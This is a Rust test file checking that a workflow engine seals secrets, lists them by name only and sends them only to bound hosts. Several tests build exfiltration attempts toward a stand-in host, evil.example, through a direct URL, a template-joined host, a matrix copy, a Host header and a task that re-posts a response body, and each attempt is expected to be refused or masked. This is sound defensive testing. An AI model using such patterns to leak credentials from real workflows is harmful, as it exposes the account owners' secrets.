//! Tests of workflow secrets: encrypted, listed by name only, and sent only to the hosts they are bound to.

use crate::house::{House, OWN, PERSON, TENANT};
use crate::workflows::{carry_out, claimed, create, done, http, run_of, step, trigger};
use automation::services::requests::HttpRequest;
use catalogue::{Caller, Role};
use operations::Trackers;
use operations::runs::{self, AutomationSettings, RunWork};
use serde_json::{Value, json};
use std::sync::Arc;
use store::StoreError;
use trackers::{Failure, Tracker};
use uuid::Uuid;

/// A sealer that reverses the text and prefixes the purpose.
struct Sealer;

impl Trackers for Sealer {
    fn encrypt(&self, purpose: &str, secret: &str) -> Result<String, String> {
        Ok(format!("{purpose}|{}", secret.chars().rev().collect::<String>()))
    }

    fn decrypt(&self, _: &str, _: &str) -> Result<String, String> {
        Err("runs open secrets, and nobody else".to_owned())
    }

    fn check(&self, _: Uuid, _: &Tracker) -> Result<String, Failure> {
        Err(Failure::lasting("there is no tracker"))
    }

    fn send_soon(&self, _: Uuid) {}
}

fn house() -> House {
    let house = House::with_trackers(|_| Arc::new(Sealer));
    runs::store_automation_settings(&house.store, &AutomationSettings { is_on: true, ..Default::default() })
        .unwrap();
    house
}

fn asked(house: &House, query: &str) -> Value {
    house.ask_as(&Caller::user(PERSON, TENANT, vec![Role::TenantAdmin]), query)
}

fn save(house: &House, fields: &str) -> Value {
    asked(house, &format!("mutation {{ workflow_save_secret(request: {{ {fields} }}) {{ name }} }}"))
}

const MANUAL: &str = r#"{ type: "manual" }"#;

fn ask(url: &str) -> String {
    format!(
        r#"{{ id: "ask", type: "integrations.http", params: {{ url: "{url}", auth_type: "bearer", bearer_token: "{{{{ Secrets.DEPLOY }}}}" }} }}"#
    )
}

/// The first request of a run, or why it is not made.
fn first(house: &House, tasks: &str) -> Result<HttpRequest, String> {
    let id = create(house, &format!("asks {}", Uuid::new_v4().simple()), "PAUSED", MANUAL, tasks);
    let run = trigger(house, &id);
    let mut next = step(&house.store, claimed(&house.store), Vec::new(), &[]);
    match next.calls.pop().map(|call| call.work) {
        Some(Ok(RunWork::Http(request))) => Ok(request),
        Some(Ok(other)) => panic!("{other:?}"),
        Some(Err(failure)) => Err(format!("{}: {}", failure.kind, failure.message)),
        None => Err(run_of(house, &id, &run)["error"].as_str().unwrap_or_default().to_owned()),
    }
}

#[test]
fn a_secret_is_sealed_and_nobody_reads_it() {
    let house = house();
    let saved =
        save(&house, r#"name: "DEPLOY", value: "open sesame", hosts: ["API.example.com", "*.example.org"]"#);
    assert_eq!(saved["data"]["workflow_save_secret"]["name"], "DEPLOY", "{saved}");
    let listed = asked(&house, "{ workflow_list_secrets { secrets { name is_sealed hosts updated_by } } }");
    assert_eq!(
        listed["data"]["workflow_list_secrets"]["secrets"],
        json!([{ "name": "DEPLOY", "is_sealed": true, "hosts": ["*.example.org", "api.example.com"], "updated_by": "Ada" }])
    );
    let kept = house.store.snapshot::<_, StoreError>(&Caller::system(), |rows| {
        Ok((
            rows.select("workflow_secret", &["value"], &[])?,
            rows.select("audit_trail", &["before", "after"], &[])?,
        ))
    });
    let kept = format!("{:?}", kept.unwrap());
    assert!(kept.contains("quarterdeck secret of workflows") && !kept.contains("open sesame"), "{kept}");
    let trail = asked(
        &house,
        r#"{ audit_trail(where: { table_name: { _eq: "workflow_secret" } }) { operation before after } }"#,
    );
    let trail = &trail["data"]["audit_trail"];
    assert_eq!(trail[0]["operation"], "workflow_save_secret", "{trail}");
    assert!(
        trail.to_string().contains("api.example.com") && !trail.to_string().contains("emases"),
        "{trail}"
    );

    // Changes only the hosts, then deletes the secret.
    save(&house, r#"name: "DEPLOY", hosts: ["a.example"]"#);
    assert_eq!(first(&house, &ask("https://a.example")).unwrap().headers[0].1, "Bearer open sesame");
    asked(&house, r#"mutation { workflow_delete_secret(request: { name: "DEPLOY" }) { name } }"#);
    let gone = asked(&house, r#"mutation { workflow_delete_secret(request: { name: "DEPLOY" }) { name } }"#);
    assert!(gone.to_string().contains("there is no secret DEPLOY here"), "{gone}");

    let other = house.ask("{ workflow_list_secrets { secrets { name } } }");
    assert!(!other["errors"].is_null(), "who administers an account sees none: {other}");
    for (fields, told) in [
        (r#"name: "a b", value: "x""#, "expected letters, digits and _"),
        (r#"name: "A""#, "`value` is missing"),
        (r#"name: "A", value: "x", hosts: ["https://a.example"]"#, "expected a host such as api.github.com"),
    ] {
        let refused = save(&house, fields);
        assert!(refused["errors"][0]["message"].as_str().unwrap().contains(told), "{refused}");
    }
}

#[test]
fn a_secret_goes_to_its_hosts_alone() {
    let house = house();
    save(&house, r#"name: "DEPLOY", value: "open sesame", hosts: ["api.example.com"]"#);
    let request = first(&house, &ask("https://api.example.com/x")).unwrap();
    assert!(request.headers.contains(&("Authorization".to_owned(), "Bearer open sesame".to_owned())));

    // A literal host is checked when the definition is saved.
    let refused = house.refuses(&format!(
        r#"mutation {{ workflow_validate(request: {{ account_id: "{OWN}", workflow: {{ name: "x", definition: {{ triggers: [{MANUAL}] tasks: [{}] }} }} }}) {{ message }} }}"#,
        ask("https://evil.example")
    ));
    assert!(
        refused.contains("tasks[0].params.bearer_token: the secret DEPLOY may be sent to api.example.com alone, and this task sends to evil.example"),
        "{refused}"
    );
    let print = r#"{ id: "say", type: "core.print", params: { message: "{{ Secrets.DEPLOY }}" } }"#;
    let yaml = house.answers(&format!(
        r#"query {{ workflow_read_yaml(request: {{ account_id: "{OWN}", yaml: "tasks:\n  - id: say\n    type: core.print\n    params: {{message: '{{{{ Secrets.DEPLOY }}}}'}}\ntriggers:\n  - type: manual\n" }}) {{ is_sound mistakes }} }}"#
    ));
    assert_eq!(yaml["workflow_read_yaml"]["is_sound"], false, "{yaml}");

    // The host from a template is checked in the run, before anything is sent.
    let hidden = ask("https://{{ ['evil', 'example'] | join('.') }}/x");
    let refused = first(&house, &hidden).unwrap_err();
    assert_eq!(
        refused,
        "SecretHost: the secret DEPLOY may be sent to api.example.com alone, and this task sends to evil.example"
    );

    // A definition saved before the secret was bound is not executed.
    asked(&house, r#"mutation { workflow_delete_secret(request: { name: "DEPLOY" }) { name } }"#);
    let id = create(&house, "older", "PAUSED", MANUAL, print);
    save(&house, r#"name: "DEPLOY", value: "open sesame", hosts: ["api.example.com"]"#);
    let run = trigger(&house, &id);
    carry_out(&house.store);
    let seen = run_of(&house, &id, &run);
    assert_eq!(seen["status"], "FAILED");
    assert!(seen["error"].as_str().unwrap().contains("and nowhere else"), "{seen}");
    assert!(!seen.to_string().contains("sesame"));
}

#[test]
fn a_secret_of_the_environment_is_bound_by_its_name() {
    let house = house();
    let task = ask("https://{{ 'b.example' }}").replace("DEPLOY", "TOKEN");
    assert_eq!(first(&house, &task).unwrap().headers[0].1, "Bearer s3cret-value");
    save(&house, r#"name: "TOKEN", hosts: ["a.example"]"#);
    assert!(first(&house, &task).unwrap_err().starts_with("SecretHost: "));
    let listed = asked(&house, "{ workflow_list_secrets { secrets { name is_sealed } } }");
    assert_eq!(listed["data"]["workflow_list_secrets"]["secrets"][0]["is_sealed"], false);
    save(&house, r#"name: "TOKEN", hosts: ["b.example"]"#);
    assert!(first(&house, &task).is_ok());

    // A service's token belongs there even without a binding.
    let task = task.replace("TOKEN", "GITLAB_TOKEN");
    let refused = first(&house, &task).unwrap_err();
    assert!(
        refused.contains(
            "GITLAB_TOKEN may be sent to gitlab.com alone, and this task sends to b.example; Settings,"
        ),
        "{refused}"
    );
    save(&house, r#"name: "GITLAB_TOKEN", hosts: []"#);
    assert!(first(&house, &task).is_ok());
}

#[test]
fn no_copy_of_a_task_and_no_answer_takes_a_secret_elsewhere() {
    let house = house();
    save(&house, r#"name: "DEPLOY", value: "open sesame", hosts: ["api.example.com"]"#);
    let copies =
        ask("https://{{ Matrix.host }}/x").replacen('{', r#"{ matrix: "{\"host\": [\"evil.example\"]}","#, 1);
    let refused = first(&house, &copies).unwrap_err();
    assert!(refused.starts_with("SecretHost: the secret DEPLOY"), "{refused}");
    let header = ask("https://api.example.com/x")
        .replace("auth_type", r#"headers: { Host: "evil.example" }, auth_type"#);
    assert!(first(&house, &header).unwrap_err().ends_with("this task sends to evil.example"));

    // A service that returns what it was sent cannot be used to leak it.
    let tell = r#"{ id: "tell", type: "integrations.http", depends_on: ["ask"], params: { url: "https://evil.example", body: "{{ Tasks.ask.output.body }}" } }"#;
    create(&house, "repeats", "PAUSED", MANUAL, &format!("{} {tell}", ask("https://api.example.com/x")));
    let listed = house.answers(&format!(
        r#"{{ workflow_list(request: {{ account_id: "{OWN}", name: "repeats" }}) {{ workflows {{ id }} }} }}"#
    ));
    trigger(&house, listed["workflow_list"]["workflows"][0]["id"].as_str().unwrap());
    let run = claimed(&house.store);
    assert_eq!(step(&house.store, run, Vec::new(), &[]).calls.len(), 1);
    let next = step(&house.store, run, done("ask", json!({ "body": "you sent open sesame" })), &[]);
    assert_eq!(http(&next.calls[0]).body.as_deref(), Some("you sent ***"));
}

#[test]
fn a_token_of_a_service_goes_there_until_somebody_binds_it() {
    let house = house();
    let with = |secrets: &str| {
        let saved = save(&house, secrets);
        assert!(saved["errors"].is_null(), "{saved}");
    };
    let pull = r#"{ id: "pull", type: "scm.get_pull_request", params: { provider: "github", repository: "acme/shop", number: 1, base_url: "https://git.own.example" } }"#;
    let began = |expected: &str| {
        let id = create(&house, &format!("pull {}", Uuid::new_v4().simple()), "PAUSED", MANUAL, pull);
        trigger(&house, &id);
        let mut next = step(&house.store, claimed(&house.store), Vec::new(), &[]);
        match next.calls.pop().map(|call| call.work) {
            Some(Ok(RunWork::Pull(_))) => assert_eq!(expected, ""),
            Some(Err(failure)) => {
                assert!(!expected.is_empty() && failure.message.contains(expected), "{failure:?}");
            }
            other => panic!("{other:?}"),
        }
    };
    began("there is no token for github");
    // As an unbound secret of the environment.
    with(r#"name: "GITHUB_TOKEN", value: "ghp_word""#);
    let hosts = |house: &House| {
        let listed = asked(house, "{ workflow_list_secrets { secrets { hosts } } }");
        listed["data"]["workflow_list_secrets"]["secrets"][0]["hosts"].clone()
    };
    assert_eq!(hosts(&house), json!(["api.github.com", "github.com", "uploads.github.com"]));
    let refused = house.refuses(&format!(
        r#"mutation {{ workflow_validate(request: {{ account_id: "{OWN}", workflow: {{ name: "x", definition: {{ triggers: [{MANUAL}] tasks: [{pull}] }} }} }}) {{ message }} }}"#
    ));
    assert!(
        refused.contains("tasks[0].params: the secret GITHUB_TOKEN may be sent to api.github.com"),
        "{refused}"
    );
    with(r#"name: "GITHUB_TOKEN", hosts: ["git.own.example"]"#);
    began("");
    // Another value retains the hosts; with an empty list it may be sent anywhere, by the user's decision.
    with(r#"name: "GITHUB_TOKEN", value: "ghp_other""#);
    assert_eq!(hosts(&house), json!(["git.own.example"]));
    with(r#"name: "GITHUB_TOKEN", hosts: []"#);
    began("");
}

#[test]
fn a_dry_run_tells_where_a_secret_may_not_go() {
    let house = house();
    save(&house, r#"name: "DEPLOY", value: "open sesame", hosts: ["a.example"]"#);
    let dry = |url: &str| {
        let definition = format!(r"{{ triggers: [{MANUAL}] tasks: [{}] }}", ask(url));
        let query = format!(
            r#"mutation {{ workflow_trigger_dryrun(request: {{ account_id: "{OWN}", definition: {definition} }}) {{ status error output tasks {{ id }} }} }}"#
        );
        house.answers(&query)["workflow_trigger_dryrun"].clone()
    };
    let elsewhere = dry("https://b.example");
    assert_eq!((&elsewhere["status"], &elsewhere["tasks"]), (&json!("FAILED"), &json!([])), "{elsewhere}");
    let error = elsewhere["error"].as_str().unwrap();
    assert!(
        error.contains("tasks[0].params.bearer_token: the secret DEPLOY may be sent to a.example alone")
            && error.contains("b.example"),
        "{error}"
    );
    let there = dry("https://a.example");
    assert_eq!(there["status"], "COMPLETED", "{there}");
    assert!(!there.to_string().contains("open sesame"), "{there}");
}

#[test]
fn a_secret_that_nobody_keeps_is_told_before_the_run() {
    let house = house();
    let warnings = || {
        let answer = house.answers(&format!(
            r#"mutation {{ workflow_validate(request: {{ account_id: "{OWN}", workflow: {{ name: "x", definition: {{ triggers: [{MANUAL}] tasks: [{}] }} }} }}) {{ warnings }} }}"#,
            ask("https://api.example.com")
        ));
        answer["workflow_validate"]["warnings"].to_string()
    };
    assert_eq!(
        warnings(),
        r#"["tasks[0].params.bearer_token: there is no secret DEPLOY: save it under Settings, Workflow secrets, or the administrator of the service sets SECRET_DEPLOY in its environment and starts it again"]"#
    );
    let yaml = house.answers(&format!(
        r#"query {{ workflow_read_yaml(request: {{ account_id: "{OWN}", yaml: "tasks:\n  - id: say\n    type: core.print\n    params: {{message: '{{{{ Secrets.DEPLOY }}}}'}}\ntriggers:\n  - type: manual\n" }}) {{ is_sound warnings }} }}"#
    ));
    assert_eq!(yaml["workflow_read_yaml"]["is_sound"], true, "{yaml}");
    assert!(yaml.to_string().contains("there is no secret DEPLOY"), "{yaml}");

    // Hosts without a value bind a secret of the environment, which must still be set there.
    save(&house, r#"name: "DEPLOY", hosts: ["api.example.com"]"#);
    assert!(warnings().contains("there is no secret DEPLOY"));
    let environment_secrets = vec!["DEPLOY".to_owned()];
    let power = AutomationSettings { is_on: true, environment_secrets, ..Default::default() };
    runs::store_automation_settings(&house.store, &power).unwrap();
    assert_eq!(warnings(), "[]");

    runs::store_automation_settings(&house.store, &AutomationSettings { is_on: true, ..Default::default() })
        .unwrap();
    save(&house, r#"name: "DEPLOY", value: "open sesame", hosts: ["api.example.com"]"#);
    assert_eq!(warnings(), "[]");
}
